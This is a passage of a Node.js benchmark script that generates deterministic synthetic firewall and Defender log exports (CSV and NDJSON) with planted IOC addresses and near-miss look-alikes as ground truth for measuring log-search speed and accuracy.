#!/usr/bin/env node
// bench/generate.mjs: large, realistic, deterministic exports for the benchmark (issue 6).
//
//   node bench/generate.mjs [--size 1GiB] [--seed 1] [--dir bench/data] [--force]
//
// Writes, under <dir>/<size>-seed<seed>/:
//   CommonSecurityLog.csv      Log Analytics portal "Export to CSV": BOM, CRLF, full current schema
//   CommonSecurityLog.csv.gz   the same bytes through zlib (level 6)
//   DeviceNetworkEvents.ndjson Defender streaming-API rows (JSON lines, CRLF)
//   DeviceNetworkEvents.ndjson.gz
//   *.hits.json                every expected hit: record, line, matched fields, IOCs, suppressedBy
//   iocs.txt                   the two IOC IPs, one a line (for `rg -F -f`)
//   manifest.json              sizes, SHA-256, and the expected counts (records, hits, suppressed,
//                              per IOC, near misses, lines ripgrep will count); written last
//
// --size is the size of each uncompressed file (it ends at the last whole record that fits).
// Same size + seed + generator version = byte-identical files; an existing complete dataset
// (manifest present and matching, file sizes matching) is reused unless --force.
//
// Memory is bounded: records are built one at a time and written in ~1 MiB batches with
// back-pressure; gzip runs in zlib's thread pool beside the generator.
//
// GROUND TRUTH is by construction: IOC addresses are only ever written from the forms table
// below (IOC_FORMS), so whether a record is a hit is decided by looking up what was written into
// its watched fields, not by searching the output. Filler addresses come from pools and
// generators that never produce 179.x.x.x; near misses are written on purpose and counted. A
// record meant to be harmless that still contains IOC text makes the generator throw.

import { createWriteStream, existsSync, mkdirSync, readFileSync, renameSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { createGzip } from 'node:zlib';
import { once } from 'node:events';
import { finished } from 'node:stream/promises';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

export const GENERATOR_VERSION = 2;
export const IOC84 = '179.43.139.84';
export const IOC86 = '179.43.139.86';
export const IOCS = [IOC84, IOC86];
const BENCH_DIR = dirname(fileURLToPath(import.meta.url));
export const DEFAULT_DATA_DIR = join(BENCH_DIR, 'data');
const CRLF = '\r\n';
const KiB = 1024;
const MiB = 1024 * KiB;
const GiB = 1024 * MiB;

// ------------------------------------------------------------------------- sizes

/** `256MiB`, `1GiB`, `1.5G`, `300MB`, `4096` (bytes). K/M/G alone are binary. */
export function parseSize(text) {
  const m = /^\s*(\d+(?:\.\d+)?)\s*([kmgt]?i?b?)?\s*$/i.exec(String(text));
  if (!m) throw new Error(`not a size: "${text}" (try 256MiB, 1GiB)`);
  const unit = (m[2] ?? '').toLowerCase();
  const binary = { '': 1, b: 1, k: KiB, ki: KiB, kib: KiB, m: MiB, mi: MiB, mib: MiB, g: GiB, gi: GiB, gib: GiB, t: 1024 * GiB, ti: 1024 * GiB, tib: 1024 * GiB };
  const decimal = { kb: 1e3, mb: 1e6, gb: 1e9, tb: 1e12 };
  const factor = binary[unit] ?? decimal[unit];
  if (factor === undefined) throw new Error(`unknown size unit in "${text}"`);
  const bytes = Math.round(Number(m[1]) * factor);
  if (bytes < 64 * KiB) throw new Error(`size ${text} is too small (at least 64KiB)`);
  return bytes;
}

export function formatSize(bytes) {
  for (const [unit, n] of [['GiB', GiB], ['MiB', MiB], ['KiB', KiB]]) {
    if (bytes % n === 0) return `${bytes / n}${unit}`;
  }
  return `${bytes}B`;
}

export function datasetDir(dataDir, size, seed) {
  return join(resolve(dataDir), `${formatSize(size)}-seed${seed}`);
}

// ------------------------------------------------------------------------- PRNG

/** sfc32 seeded through splitmix32: fast, good enough, and the same on every machine. */
class Rng {
  constructor(seed, stream) {
    let s = (seed ^ Math.imul(stream + 1, 0x9e3779b9)) >>> 0;
    const mix = () => {
      s = (s + 0x9e3779b9) >>> 0;
      let z = s;
      z = Math.imul(z ^ (z >>> 16), 0x85ebca6b);
      z = Math.imul(z ^ (z >>> 13), 0xc2b2ae35);
      return (z ^ (z >>> 16)) >>> 0;
    };
    this.a = mix();
    this.b = mix();
    this.c = mix();
    this.d = mix();
    for (let i = 0; i < 12; i++) this.u32();
  }

  u32() {
    let { a, b, c, d } = this;
    const t = (((a + b) | 0) + d) | 0;
    d = (d + 1) | 0;
    a = b ^ (b >>> 9);
    b = (c + (c << 3)) | 0;
    c = (c << 21) | (c >>> 11);
    c = (c + t) | 0;
    this.a = a;
    this.b = b;
    this.c = c;
    this.d = d;
    return t >>> 0;
  }

  next() {
    return this.u32() / 4294967296;
  }

  int(n) {
    return Math.floor(this.next() * n);
  }

  /** Inclusive. */
  range(lo, hi) {
    return lo + this.int(hi - lo + 1);
  }

  chance(p) {
    return this.next() < p;
  }

  pick(list) {
    return list[this.int(list.length)];
  }

  hex(n) {
    let s = '';
    while (s.length < n) s += this.u32().toString(16).padStart(8, '0');
    return s.slice(0, n);
  }

  guid() {
    const h = this.hex(32);
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${'89ab'[this.int(4)]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
  }
}

/** [[weight, value], …] → a picker. */
function weighted(entries) {
  const total = entries.reduce((n, [w]) => n + w, 0);
  const cumulative = [];
  let acc = 0;
  for (const [w, v] of entries) {
    acc += w / total;
    cumulative.push([acc, v]);
  }
  return (rng) => {
    const x = rng.next();
    for (const [c, v] of cumulative) if (x < c) return v;
    return cumulative[cumulative.length - 1][1];
  };
}

// ------------------------------------------------------------------------- addresses

// Every filler public address comes from here: no first octet 179, so no filler can ever be
// (or contain) an IOC address.
const PUBLIC_FIRST_OCTETS = [3, 13, 20, 23, 31, 34, 35, 40, 45, 52, 54, 62, 77, 80, 81, 85, 91, 93, 95, 104, 142, 151, 157, 162, 185, 192, 193, 195, 199, 204, 209, 216];
const WELL_KNOWN_PUBLIC = ['13.107.4.52', '20.42.65.85', '20.50.201.200', '52.113.194.132', '142.250.185.78', '151.101.1.140', '104.16.132.229', '40.126.32.133', '13.69.239.74', '35.186.224.25', '185.199.108.153', '23.215.0.136'];

function publicIp(rng) {
  if (rng.chance(0.35)) return rng.pick(WELL_KNOWN_PUBLIC);
  return `${rng.pick(PUBLIC_FIRST_OCTETS)}.${rng.int(256)}.${rng.int(256)}.${rng.range(1, 254)}`;
}

function privateIp(rng) {
  const r = rng.int(10);
  if (r < 6) return `10.${rng.range(1, 40)}.${rng.int(256)}.${rng.range(2, 254)}`;
  if (r < 9) return `192.168.${rng.range(0, 20)}.${rng.range(2, 254)}`;
  return `172.${rng.range(16, 31)}.${rng.int(256)}.${rng.range(2, 254)}`;
}

const ORG_PUBLIC = ['198.51.100.10', '198.51.100.11', '203.0.113.25', '203.0.113.26'];
const ephemeralPort = (rng) => rng.range(32768, 65535);

/**
 * The only ways an IOC address is ever written into a watched field, and what the scan
 * (docs/hits.md) reads each as. Anything written into a watched field that is not here is not a hit.
 */
const IOC_FORMS = new Map();
for (const ip of IOCS) {
  for (const form of [ip, `::ffff:${ip}`, `::FFFF:${ip}`, `[${ip}]`, `${ip}:443`, `[::ffff:${ip}]:443`, ` ${ip} `]) IOC_FORMS.set(form, ip);
}
// The rarer shapes of hits and near misses are taken in turn (not drawn at random), so that
// every one of them is in every dataset of a few MiB or more, whatever the seed.
const plain = (ip) => ip;
const ADDRESS_FORMS_CSL = [plain, plain, (ip) => `::ffff:${ip}`, plain, (ip) => `${ip}:443`, plain, (ip) => `[${ip}]`, plain, (ip) => ` ${ip} `, plain];
const ADDRESS_FORMS_DNE = [plain, plain, (ip) => `::ffff:${ip}`, plain, (ip) => `::FFFF:${ip}`];

/** Look-alikes: never hits. The first three contain the exact IOC text (ripgrep counts them). */
const LOOKALIKES = [
  (ip) => `${ip}0`,
  (ip) => `1${ip}`,
  (ip) => `::ffff:${ip}0`,
  (ip) => ip.slice(0, -1), // 179.43.139.8
  (ip) => ip.slice(0, -1) + (ip.endsWith('4') ? '5' : '7'), // 179.43.139.85 / .87
];

/** Hands out the items of a list in turn, forever. */
function cycler(list) {
  let i = 0;
  return () => list[i++ % list.length];
}

function iocOf(written) {
  return IOC_FORMS.get(written) ?? null;
}

// ------------------------------------------------------------------------- times

const EPOCH0 = Date.UTC(2026, 4, 21, 0, 0, 0); // the IOCs' first-seen day
const pad2 = (n) => (n < 10 ? `0${n}` : `${n}`);
const pad3 = (n) => (n < 10 ? `00${n}` : n < 100 ? `0${n}` : `${n}`);

/** Portal locale text (en-US, UTC): `5/21/2026, 6:38:45.828 PM`. */
function localeTime(ms) {
  const d = new Date(ms);
  const h = d.getUTCHours();
  return `${d.getUTCMonth() + 1}/${d.getUTCDate()}/${d.getUTCFullYear()}, ${h % 12 || 12}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}.${pad3(d.getUTCMilliseconds())} ${h < 12 ? 'AM' : 'PM'}`;
}

/** ISO 8601 with 7 fraction digits, trailing zeros dropped as Kusto does. */
function isoTime(ms, sub) {
  const base = new Date(ms).toISOString(); // …SS.mmmZ
  let frac = base.slice(20, 23) + String(sub).padStart(4, '0');
  frac = frac.replace(/0+$/, '');
  return `${base.slice(0, 19)}${frac ? `.${frac}` : ''}Z`;
}

// ------------------------------------------------------------------------- shared vocabulary

const USERS = ['jdoe', 'asmith', 'mchen', 'pgarcia', 'kmueller', 'lnguyen', 'rpatel', 'omartin', 'svc_backup', 'svc_sql', 'tbrown', 'ewilson'];
const DOMAINS = ['login.microsoftonline.com', 'www.google.com', 'outlook.office365.com', 'teams.microsoft.com', 'github.com', 'api.github.com', 'sync.1rx.io', 'image6.pubmatic.com', 'eu-v20.events.data.microsoft.com', 'www.bing.com', 'cdn.jsdelivr.net', 'pypi.org', 'registry.npmjs.org', 'deb.debian.org', 'security.ubuntu.com', 'slack.com', 'zoom.us', 'www.linkedin.com', 'fonts.gstatic.com', 'ocsp.digicert.com'];
const URL_PATHS = ['/', '/favicon.ico', '/api/v1/events', '/common/oauth2/v2.0/token', '/search?q=quarterly+report%2C+2026&form=QBLH', '/simple/requests/', '/ubuntu/dists/jammy-security/InRelease', '/owa/', '/v1/metrics?batch=1,2,3', '/gh/jquery/jquery@3.7.1/dist/jquery.min.js', '/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ'];
const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80',
  'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)',
  'python-requests/2.31.0',
  'curl/7.88.1',
  'Debian APT-HTTP/1.3 (2.6.1)',
];

// ========================================================================= CommonSecurityLog

// Column order: the Log Analytics portal's UI order, as in the real 2020 "Export to CSV" file
// fixtures/real/securehats_sentinel_playground/CiscoFirepowerEStreamerCONN.csv (152 columns),
// then the 9 columns the current schema (../shared/corpus/schemas/CommonSecurityLog.getschema-order.txt,
// 161 columns) has and that 2020 export lacked, placed before Type/_ResourceId in getschema
// order (their real UI position is not known), with the hidden _ItemId last.
const CSL_COLUMNS = (
  'TenantId,SourceSystem,TimeGenerated,ReceiptTime,DeviceVendor,DeviceProduct,DeviceEventClassID,LogSeverity,OriginalLogSeverity,DeviceAction,SimplifiedDeviceAction,Computer,CommunicationDirection,DeviceFacility,DestinationPort,DestinationIP,DeviceAddress,DeviceName,Message,Protocol,SourcePort,SourceIP,RemoteIP,RemotePort,MaliciousIP,ThreatSeverity,IndicatorThreatType,ThreatDescription,ThreatConfidence,ReportReferenceLink,MaliciousIPLongitude,MaliciousIPLatitude,MaliciousIPCountry,DeviceVersion,Activity,ApplicationProtocol,EventCount,DestinationDnsDomain,DestinationServiceName,DestinationTranslatedAddress,DestinationTranslatedPort,DeviceDnsDomain,DeviceExternalID,DeviceInboundInterface,DeviceNtDomain,DeviceOutboundInterface,DevicePayloadId,ProcessName,DeviceTranslatedAddress,DestinationHostName,DestinationMACAddress,DestinationNTDomain,DestinationProcessId,DestinationUserPrivileges,DestinationProcessName,DeviceTimeZone,DestinationUserID,DestinationUserName,DeviceMacAddress,ProcessID,ExternalID,FileCreateTime,FileHash,FileID,FileModificationTime,FilePath,FilePermission,FileType,FileName,FileSize,ReceivedBytes,OldFileCreateTime,OldFileHash,OldFileID,OldFileModificationTime,OldFileName,OldFilePath,OldFilePermission,OldFileSize,OldFileType,SentBytes,RequestURL,RequestClientApplication,RequestContext,RequestCookies,RequestMethod,SourceHostName,SourceMACAddress,SourceNTDomain,SourceDnsDomain,SourceServiceName,SourceTranslatedAddress,SourceTranslatedPort,SourceProcessId,SourceUserPrivileges,SourceProcessName,SourceUserID,SourceUserName,EventType,DeviceCustomIPv6Address1,DeviceCustomIPv6Address1Label,DeviceCustomIPv6Address2,DeviceCustomIPv6Address2Label,DeviceCustomIPv6Address3,DeviceCustomIPv6Address3Label,DeviceCustomIPv6Address4,DeviceCustomIPv6Address4Label,DeviceCustomFloatingPoint1,DeviceCustomFloatingPoint1Label,DeviceCustomFloatingPoint2,DeviceCustomFloatingPoint2Label,DeviceCustomFloatingPoint3,DeviceCustomFloatingPoint3Label,DeviceCustomFloatingPoint4,DeviceCustomFloatingPoint4Label,DeviceCustomNumber1,DeviceCustomNumber1Label,DeviceCustomNumber2,DeviceCustomNumber2Label,DeviceCustomNumber3,DeviceCustomNumber3Label,DeviceCustomString1,DeviceCustomString1Label,DeviceCustomString2,DeviceCustomString2Label,DeviceCustomString3,DeviceCustomString3Label,DeviceCustomString4,DeviceCustomString4Label,DeviceCustomString5,DeviceCustomString5Label,DeviceCustomString6,DeviceCustomString6Label,DeviceCustomDate1,DeviceCustomDate1Label,DeviceCustomDate2,DeviceCustomDate2Label,FlexDate1,FlexDate1Label,FlexNumber1,FlexNumber1Label,FlexNumber2,FlexNumber2Label,FlexString1,FlexString1Label,FlexString2,FlexString2Label,AdditionalExtensions,StartTime,EndTime,' +
  'ExtID,EventOutcome,Reason,DeviceEventCategory,FieldDeviceCustomNumber1,FieldDeviceCustomNumber2,FieldDeviceCustomNumber3,CollectorHostName,Type,_ResourceId,_ItemId'
).split(',');

// int/long/real columns: an empty value is exported as a bare `null` (observed in the real file).
const CSL_NUMERIC = new Set('EventCount DestinationTranslatedPort DestinationProcessId DestinationPort ProcessID ExternalID FileSize ReceivedBytes OldFileSize SentBytes SourceTranslatedPort SourceProcessId SourcePort EventType DeviceCustomFloatingPoint1 DeviceCustomFloatingPoint2 DeviceCustomFloatingPoint3 DeviceCustomFloatingPoint4 DeviceCustomNumber1 FieldDeviceCustomNumber1 DeviceCustomNumber2 FieldDeviceCustomNumber2 DeviceCustomNumber3 FieldDeviceCustomNumber3 FlexNumber1 FlexNumber2 ThreatSeverity MaliciousIPLongitude MaliciousIPLatitude'.split(' '));
const CSL_DATETIME = new Set(['TimeGenerated', 'StartTime', 'EndTime']);
const CSL_WATCHED = ['SourceIP', 'DestinationIP', 'SourceTranslatedAddress', 'DestinationTranslatedAddress'];

const C = Object.fromEntries(CSL_COLUMNS.map((name, i) => [name, i]));
const ZERO_TIME = '"1/1/1970, 12:00:00.000 AM"';
const CSL_TEMPLATE = CSL_COLUMNS.map((name) => (CSL_NUMERIC.has(name) ? 'null' : CSL_DATETIME.has(name) ? ZERO_TIME : ''));

/** The portal's quoting, as observed: anything but letters and digits is quoted, quotes doubled. */
const PLAIN = /^[A-Za-z0-9]*$/;
function csvCell(value) {
  const s = String(value);
  if (PLAIN.test(s)) return s;
  return `"${s.includes('"') ? s.replace(/"/g, '""') : s}"`;
}

/** The CommonSecurityLog export's header line, BOM and CRLF included (also the bench's start-up file). */
export function cslHeader() {
  return '\ufeff' + CSL_COLUMNS.map((name) => (CSL_DATETIME.has(name) ? `"${name} [UTC]"` : csvCell(name))).join(',') + CRLF;
}

class CslRow {
  constructor() {
    this.cells = CSL_TEMPLATE.slice();
    this.raw = {};
  }

  set(name, value) {
    if (value === null || value === undefined) return;
    this.raw[name] = String(value);
    this.cells[C[name]] = csvCell(value);
  }

  text() {
    return this.cells.join(',') + CRLF;
  }
}

const FIREWALLS = {
  pan: [
    { name: 'PA-5220-EDGE01', address: '10.0.0.1', serial: '013101009871', snat: ORG_PUBLIC[0] },
    { name: 'PA-5220-EDGE02', address: '10.0.0.2', serial: '013101009872', snat: ORG_PUBLIC[1] },
  ],
  forti: [{ name: 'FGT600E-DC1', address: '10.0.1.1', serial: 'FG6H0E5819900123', snat: ORG_PUBLIC[2] }],
  asa: [{ name: 'asa-dmz-01', address: '10.0.2.1', serial: 'JAD21430ABC', snat: ORG_PUBLIC[3] }],
  cp: [{ name: 'cp-gw-hq', address: '10.0.3.1', serial: 'cp-gw-hq', snat: ORG_PUBLIC[2] }],
};
const COLLECTORS = ['cef-fwd-01', 'cef-fwd-02'].map((h) => ({
  host: h,
  resourceId: `/subscriptions/08e3a9d7-7798-47c4-9d89-d38857c5bfe7/resourcegroups/soc-collectors/providers/microsoft.compute/virtualmachines/${h}`,
}));
const PAN_APPS = ['ssl', 'web-browsing', 'dns-base', 'ms-office365-base', 'google-base', 'incomplete', 'ntp-base', 'github-base', 'slack-base'];
const PAN_RULES = ['Outbound-Web', 'Outbound-DNS', 'Allow-O365', 'Default-Deny', 'DMZ-Inbound-HTTPS', 'Guest-Internet'];
const PAN_END_REASONS = ['tcp-fin', 'aged-out', 'tcp-rst-from-client', 'tcp-rst-from-server', 'policy-deny', 'threat'];
const COUNTRIES = ['United States', 'Ireland', 'Netherlands', 'Germany', 'France', 'United Kingdom', 'Japan'];
const LINUX_HOSTS = ['web-01.prod.contoso.local', 'web-02.prod.contoso.local', 'db-01.prod.contoso.local', 'build-03.dev.contoso.local', 'bastion.contoso.local', 'backup-01.contoso.local'];

const THREAT_INTEL = {
  [IOC84]: { confidence: '75', longitude: '8.5417', latitude: '47.3769' },
  [IOC86]: { confidence: '80', longitude: '8.5417', latitude: '47.3769' },
};

// A flow as firewalls see it; address fields are written exactly as given.
function outboundFlow(rng, fw) {
  const https = rng.chance(0.7);
  return {
    src: privateIp(rng),
    sport: ephemeralPort(rng),
    dst: publicIp(rng),
    dport: https ? 443 : rng.pick([80, 53, 123, 8080, 993, 22]),
    snat: fw.snat,
    snatPort: ephemeralPort(rng),
    dnat: null,
    dnatPort: null,
    proto: https || rng.chance(0.6) ? 'tcp' : 'udp',
    direction: 'outbound',
  };
}

function inboundFlow(rng, _fw) {
  const vip = rng.pick(ORG_PUBLIC);
  return {
    src: publicIp(rng),
    sport: ephemeralPort(rng),
    dst: vip,
    dport: rng.pick([443, 443, 80, 22, 25]),
    snat: null,
    snatPort: null,
    dnat: `10.20.${rng.int(4)}.${rng.range(10, 40)}`,
    dnatPort: null,
    proto: 'tcp',
    direction: 'inbound',
  };
}

function setCommon(row, rng, ctx, vendor, product, version) {
  const collector = rng.pick(COLLECTORS);
  row.set('TenantId', ctx.tenantId);
  row.set('SourceSystem', 'OpsManager');
  row.set('TimeGenerated', localeTime(ctx.ms));
  row.set('ReceiptTime', String(ctx.ms - rng.range(200, 4000)));
  row.set('DeviceVendor', vendor);
  row.set('DeviceProduct', product);
  row.set('DeviceVersion', version);
  row.set('Computer', collector.host);
  row.set('CollectorHostName', collector.host);
  row.set('Type', 'CommonSecurityLog');
  row.set('_ResourceId', collector.resourceId);
  row.set('_ItemId', rng.guid());
}

function setFlow(row, flow, { translated }) {
  row.set('SourceIP', flow.src);
  row.set('SourcePort', flow.sport);
  row.set('DestinationIP', flow.dst);
  row.set('DestinationPort', flow.dport);
  if (translated.includes('src') && flow.snat !== null) {
    row.set('SourceTranslatedAddress', flow.snat);
    row.set('SourceTranslatedPort', flow.snatPort ?? flow.sport);
  }
  if (translated.includes('dst')) {
    row.set('DestinationTranslatedAddress', flow.dnat ?? flow.dst);
    row.set('DestinationTranslatedPort', flow.dnatPort ?? flow.dport);
  }
  row.set('Protocol', flow.proto.toUpperCase() === 'TCP' ? 'TCP' : 'UDP');
}

function panRow(rng, ctx, flow) {
  const fw = ctx.fw ?? rng.pick(FIREWALLS.pan);
  const row = new CslRow();
  setCommon(row, rng, ctx, 'Palo Alto Networks', 'PAN-OS', '10.2.7');
  const deny = rng.chance(0.12);
  const elapsed = rng.int(600);
  const packetsOut = rng.range(1, 400);
  const packetsIn = deny ? 0 : rng.range(1, 900);
  row.set('DeviceEventClassID', deny ? 'deny' : 'end');
  row.set('Activity', 'TRAFFIC');
  row.set('LogSeverity', '1');
  row.set('DeviceAction', deny ? 'deny' : 'allow');
  row.set('SimplifiedDeviceAction', deny ? 'Deny' : 'Allow');
  row.set('DeviceName', fw.name);
  row.set('DeviceAddress', fw.address);
  row.set('DeviceExternalID', fw.serial);
  row.set('ApplicationProtocol', rng.pick(PAN_APPS));
  setFlow(row, flow, { translated: ['src', 'dst'] });
  row.set('DeviceInboundInterface', flow.direction === 'outbound' ? 'ethernet1/2' : 'ethernet1/1');
  row.set('DeviceOutboundInterface', flow.direction === 'outbound' ? 'ethernet1/1' : 'ethernet1/3');
  row.set('CommunicationDirection', flow.direction === 'outbound' ? '1' : '0');
  if (flow.direction === 'outbound' && rng.chance(0.6)) row.set('SourceUserName', `contoso\\${rng.pick(USERS)}`);
  row.set('SentBytes', packetsOut * rng.range(60, 1400));
  row.set('ReceivedBytes', packetsIn * rng.range(60, 1400));
  row.set('EventCount', 1);
  row.set('DeviceCustomString1', rng.pick(PAN_RULES));
  row.set('DeviceCustomString1Label', 'Rule');
  row.set('DeviceCustomString3', 'vsys1');
  row.set('DeviceCustomString3Label', 'Virtual System');
  row.set('DeviceCustomString4', flow.direction === 'outbound' ? 'trust' : 'untrust');
  row.set('DeviceCustomString4Label', 'Source Zone');
  row.set('DeviceCustomString5', flow.direction === 'outbound' ? 'untrust' : 'dmz');
  row.set('DeviceCustomString5Label', 'Destination Zone');
  row.set('DeviceCustomString6', 'Log-Forwarding-Sentinel');
  row.set('DeviceCustomString6Label', 'LogProfile');
  row.set('DeviceCustomNumber1', rng.range(100000, 9999999));
  row.set('DeviceCustomNumber1Label', 'SessionID');
  row.set('DeviceCustomNumber2', packetsOut + packetsIn);
  row.set('DeviceCustomNumber2Label', 'Packets');
  row.set('DeviceCustomNumber3', elapsed);
  row.set('DeviceCustomNumber3Label', 'Elapsed time in seconds');
  row.set('FlexString1', '0x400000');
  row.set('FlexString1Label', 'Flags');
  row.set('StartTime', localeTime(ctx.ms - elapsed * 1000));
  row.set('EndTime', localeTime(ctx.ms));
  row.set(
    'AdditionalExtensions',
    `PanOSDGl1=11;PanOSDGl2=0;PanOSDGl3=0;PanOSDGl4=0;PanOSVsysName=;PanOSSourceLocation=10.0.0.0-10.255.255.255;PanOSDestinationLocation=${rng.pick(COUNTRIES)};PanOSPacketsSent=${packetsOut};PanOSPacketsReceived=${packetsIn};PanOSSessionEndReason=${deny ? 'policy-deny' : rng.pick(PAN_END_REASONS)};PanOSActionFlags=0x0;PanOSRepeatCount=1;PanOSTunnelID=0;PanOSMonitorTag=;PanOSParentSessionID=0;PanOSParentStartTime=;PanOSTunnelType=N/A;PanOSSCTPAssociationID=0;PanOSSCTPChunks=0;PanOSSCTPChunkSent=0;PanOSSCTPChunksReceived=0;PanOSRuleUUID=${ctx.ruleUuid};PanOSHTTP2Connection=0;PanOSLinkChangeCount=0;PanOSSDWANPolicyName=;PanOSSDWANLinkSwitchCount=0;PanOSDynamicUserGroupName=;PanOSSourceDeviceCategory=;PanOSDestinationDeviceCategory=`,
  );
  return row;
}

function fortiRow(rng, ctx, flow) {
  const fw = rng.pick(FIREWALLS.forti);
  const row = new CslRow();
  setCommon(row, rng, ctx, 'Fortinet', 'Fortigate', 'FortiGate-600E v7.2.7');
  const deny = rng.chance(0.1);
  const action = deny ? 'deny' : rng.pick(['accept', 'close', 'timeout', 'client-rst']);
  const duration = rng.int(300);
  const sent = rng.range(40, 90000);
  const rcvd = deny ? 0 : rng.range(40, 900000);
  row.set('DeviceEventClassID', '0000000013');
  row.set('Activity', `traffic:forward ${action}`);
  row.set('LogSeverity', '3');
  row.set('OriginalLogSeverity', 'notice');
  row.set('DeviceAction', action);
  row.set('SimplifiedDeviceAction', deny ? 'Deny' : 'Allow');
  row.set('DeviceName', fw.name);
  row.set('DeviceAddress', fw.address);
  row.set('DeviceExternalID', fw.serial);
  row.set('ApplicationProtocol', flow.dport === 443 ? 'HTTPS' : flow.dport === 53 ? 'DNS' : flow.dport === 80 ? 'HTTP' : `tcp/${flow.dport}`);
  setFlow(row, flow, { translated: flow.direction === 'outbound' ? ['src'] : ['dst'] });
  row.set('DeviceInboundInterface', flow.direction === 'outbound' ? 'port3' : 'wan1');
  row.set('DeviceOutboundInterface', flow.direction === 'outbound' ? 'wan1' : 'port5');
  row.set('SentBytes', sent);
  row.set('ReceivedBytes', rcvd);
  row.set('DeviceCustomNumber1', rng.range(1, 220));
  row.set('DeviceCustomNumber1Label', 'FTNTFGTpolicyid');
  row.set('DeviceCustomString1', rng.pick(['LAN-to-WAN', 'DMZ-in', 'Guest-WiFi', 'Servers-Out']));
  row.set('DeviceCustomString1Label', 'FTNTFGTpolicyname');
  row.set('DeviceCustomString4', 'root');
  row.set('DeviceCustomString4Label', 'FTNTFGTvd');
  row.set('ExternalID', rng.range(100000000, 999999999));
  row.set(
    'AdditionalExtensions',
    `FTNTFGTlogid=0000000013;cat=traffic:forward;FTNTFGTsubtype=forward;FTNTFGTlevel=notice;FTNTFGTvd=root;FTNTFGTeventtime=${ctx.ms}000000;FTNTFGTtz=+0000;FTNTFGTsrcintfrole=${flow.direction === 'outbound' ? 'lan' : 'wan'};FTNTFGTdstintfrole=${flow.direction === 'outbound' ? 'wan' : 'dmz'};FTNTFGTsrccountry=${flow.direction === 'outbound' ? 'Reserved' : rng.pick(COUNTRIES)};FTNTFGTdstcountry=${flow.direction === 'outbound' ? rng.pick(COUNTRIES) : 'Reserved'};FTNTFGTpoluuid=${ctx.ruleUuid};FTNTFGTpolicytype=policy;FTNTFGTservice=${flow.dport === 443 ? 'HTTPS' : 'tcp/' + flow.dport};FTNTFGTtrandisp=${flow.direction === 'outbound' ? 'snat' : 'dnat'};FTNTFGTduration=${duration};FTNTFGTsentpkt=${rng.range(1, 90)};FTNTFGTrcvdpkt=${rng.range(0, 120)};FTNTFGTappcat=unscanned;FTNTFGTcrscore=${deny ? 30 : 0};FTNTFGTcraction=${deny ? 131072 : 0};FTNTFGTcrlevel=${deny ? 'high' : 'low'}`,
  );
  return row;
}

function asaRow(rng, ctx, flow) {
  const fw = rng.pick(FIREWALLS.asa);
  const row = new CslRow();
  setCommon(row, rng, ctx, 'Cisco', 'ASA', '9.18');
  const conn = rng.range(10000000, 999999999);
  const out = flow.direction === 'outbound';
  const kind = rng.int(10);
  let id;
  let activity;
  let action;
  let message;
  if (kind < 4) {
    id = '302013';
    activity = `Built ${out ? 'outbound' : 'inbound'} TCP connection`;
    action = 'Built';
    message = out
      ? `%ASA-6-302013: Built outbound TCP connection ${conn} for outside:${flow.dst}/${flow.dport} (${flow.dst}/${flow.dport}) to inside:${flow.src}/${flow.sport} (${flow.snat ?? flow.src}/${flow.snatPort ?? flow.sport})`
      : `%ASA-6-302013: Built inbound TCP connection ${conn} for outside:${flow.src}/${flow.sport} (${flow.src}/${flow.sport}) to dmz:${flow.dnat ?? flow.dst}/${flow.dport} (${flow.dst}/${flow.dport})`;
  } else if (kind < 8) {
    id = '302014';
    activity = 'Teardown TCP connection';
    action = 'Teardown';
    message = `%ASA-6-302014: Teardown TCP connection ${conn} for outside:${out ? flow.dst : flow.src}/${out ? flow.dport : flow.sport} to inside:${out ? flow.src : flow.dnat ?? flow.dst}/${out ? flow.sport : flow.dport} duration 0:${pad2(rng.int(60))}:${pad2(rng.int(60))} bytes ${rng.range(100, 9000000)} ${rng.pick(['TCP FINs from inside', 'TCP FINs from outside', 'TCP Reset-I from inside', 'Conn-timeout'])}`;
  } else {
    id = '106023';
    activity = 'Deny protocol src';
    action = 'Deny';
    message = `%ASA-4-106023: Deny ${flow.proto} src outside:${flow.src}/${flow.sport} dst inside:${flow.dnat ?? flow.dst}/${flow.dport} by access-group "OUTSIDE_IN" [0x9d2a7b11, 0x0]`;
  }
  row.set('DeviceEventClassID', id);
  row.set('Activity', activity);
  row.set('LogSeverity', id === '106023' ? '4' : '6');
  row.set('DeviceAction', action);
  row.set('SimplifiedDeviceAction', action === 'Deny' ? 'Deny' : 'Allow');
  row.set('DeviceName', fw.name);
  row.set('DeviceAddress', fw.address);
  row.set('DeviceFacility', 'local4');
  setFlow(row, flow, { translated: [] });
  row.set('Message', message);
  return row;
}

function cpRow(rng, ctx, flow, { multiline = false } = {}) {
  const fw = rng.pick(FIREWALLS.cp);
  const row = new CslRow();
  setCommon(row, rng, ctx, 'Check Point', 'VPN-1 & FireWall-1', 'Check Point');
  const drop = rng.chance(0.15);
  row.set('DeviceEventClassID', 'Log');
  row.set('Activity', drop ? 'Drop' : 'Accept');
  row.set('LogSeverity', 'Unknown');
  row.set('DeviceAction', drop ? 'Drop' : 'Accept');
  row.set('SimplifiedDeviceAction', drop ? 'Drop' : 'Allow');
  row.set('DeviceName', fw.name);
  row.set('DeviceAddress', fw.address);
  setFlow(row, flow, { translated: ['src', 'dst'] });
  // Check Point writes 0.0.0.0 for "no translation"
  if (flow.direction === 'outbound') row.set('DestinationTranslatedAddress', flow.dnat ?? '0.0.0.0');
  row.set('DeviceInboundInterface', flow.direction === 'outbound' ? 'eth1' : 'eth0');
  row.set('DeviceOutboundInterface', flow.direction === 'outbound' ? 'eth0' : 'eth2');
  row.set('DeviceCustomString1', rng.pick(['Outbound web', 'Cleanup rule', 'DMZ services', 'Stealth rule']));
  row.set('DeviceCustomString1Label', 'Rule Name');
  row.set('DeviceCustomString2', 'Network');
  row.set('DeviceCustomString2Label', 'Layer Name');
